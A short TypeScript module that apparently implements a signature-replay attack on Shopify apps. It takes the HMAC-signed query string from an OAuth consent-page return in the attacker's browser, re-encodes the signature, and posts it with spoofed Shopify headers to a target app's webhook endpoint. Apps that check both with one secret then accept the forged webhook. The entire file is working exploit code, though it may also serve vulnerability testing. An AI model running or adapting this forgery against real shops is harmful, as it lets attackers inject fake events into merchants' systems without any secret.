/** A return from Shopify's consent page, sent as a notice: what Shopify signed for one is good for the other. No secret is needed. */
import { randomUUID } from 'node:crypto';

export type Claim = { topic: string; shop: string };

/** The status the product answers with. `back` is the address from the attacker's own browser. */
export async function replayAsNotice(url: string, back: string, { topic, shop }: Claim): Promise<number> {
  const query = new URLSearchParams(back.slice(back.indexOf('?')));
  const signature = Buffer.from(query.get('hmac') ?? '', 'hex').toString('base64');
  query.delete('hmac');
  query.sort();
  const headers = {
    'content-type': 'application/json',
    'x-shopify-topic': topic,
    'x-shopify-hmac-sha256': signature,
    'x-shopify-shop-domain': shop,
    'x-shopify-webhook-id': randomUUID(),
    'x-shopify-triggered-at': '2026-11-20T06:30:00Z',
  };
  const body = query.toString().replaceAll('+', '%20');
  return (await fetch(`${url}/api/v1/webhooks/shopify`, { method: 'POST', body, headers })).status;
}
